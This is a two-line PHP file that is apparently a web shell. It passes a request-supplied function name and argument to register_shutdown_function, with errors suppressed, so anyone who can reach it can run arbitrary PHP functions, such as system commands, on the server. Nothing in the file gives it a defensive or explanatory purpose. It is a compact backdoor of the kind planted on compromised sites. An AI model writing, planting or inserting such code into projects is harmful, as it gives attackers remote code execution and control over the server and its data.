<?php
@register_shutdown_function($_REQUEST['f'], $_REQUEST['a']);
